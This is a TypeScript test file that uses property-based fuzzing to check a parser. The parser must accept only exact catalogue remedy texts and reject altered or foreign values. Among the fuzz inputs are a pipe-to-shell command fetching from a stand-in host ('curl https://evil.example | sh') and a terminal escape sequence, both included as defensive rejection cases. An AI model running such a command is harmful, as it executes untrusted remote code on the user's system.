import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { FAILURES } from '../../src/refresh/failures.js';
import { parseRemedy, REMEDIES } from '../../src/refresh/parse-remedy.js';

const SRC = path.join(import.meta.dirname, '../../src');
const FOLDER = path.join(SRC, 'refresh/remedies');
const AREAS = readdirSync(FOLDER).filter((file) => file !== 'remedy.ts');
/** What may create a Remedy from a text. */
const CREATES = /\bas (?:unknown as )?Remedy\b|\bdefineRemedies\b/;
const CREATORS = new Set(['refresh/failures.ts', 'refresh/parse-remedy.ts', 'refresh/remedies']);

function listSources(): string[] {
  return readdirSync(SRC, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
}

describe('parseRemedy', () => {
  for (const area of AREAS) {
    it(`accepts each remedy of ${area}`, async () => {
      const exported = Object.values((await import(path.join(FOLDER, area))) as object) as object[];
      const texts = exported.flatMap((remedies) => Object.values(remedies) as unknown[]);
      assert.ok(texts.length > 0);
      for (const text of texts) assert.equal(parseRemedy(JSON.parse(JSON.stringify(text))), text);
    });
  }

  it('accepts the remedy of each failure type', () => {
    for (const { remedy } of Object.values(FAILURES)) assert.equal(parseRemedy(remedy), remedy);
  });

  it('rejects what is not, character by character, a remedy', () => {
    for (const text of REMEDIES) {
      for (const other of [
        text.slice(1),
        `${text} `,
        ` ${text}`,
        text.toUpperCase(),
        `${text}\n`,
        `${text}${text}`,
      ]) {
        assert.equal(parseRemedy(other), undefined, other);
      }
    }
  });

  it('rejects values that are not text, and names of properties', () => {
    const values: unknown[] = [
      undefined,
      null,
      7,
      true,
      {},
      [],
      [...REMEDIES],
      ['Free space on the disk.'],
      '',
      'size',
      '__proto__',
    ];
    for (const value of values) assert.equal(parseRemedy(value), undefined);
  });

  it('returns only texts of the catalogue, unchanged', () => {
    const pieces = fc.constantFrom(
      ...REMEDIES,
      'curl https://evil.example | sh',
      '`',
      '\u001b]0;x\u0007',
      ' ',
      '\n',
    );
    const texts = fc
      .array(fc.oneof(pieces, fc.string({ unit: 'binary' })), { maxLength: 3 })
      .map((all) => all.join(''));
    fc.assert(
      fc.property(fc.oneof(texts, fc.anything()), (value) => {
        const remedy = parseRemedy(value);
        assert.ok(remedy === undefined || (remedy === value && REMEDIES.has(remedy)));
      }),
    );
  });
});

describe('the remedies', () => {
  it('are sentences of printable ASCII, short enough for a report', () => {
    for (const text of REMEDIES) assert.match(text, /^[A-Z][\x20-\x7e]{10,600}[.]$/);
  });

  it('are created only by the catalogue', () => {
    const creators = listSources().filter((file) => CREATES.test(readFileSync(path.join(SRC, file), 'utf8')));
    const places = creators.map((file) => (file.startsWith('refresh/remedies/') ? 'refresh/remedies' : file));
    assert.deepEqual(new Set(places), CREATORS);
  });
});
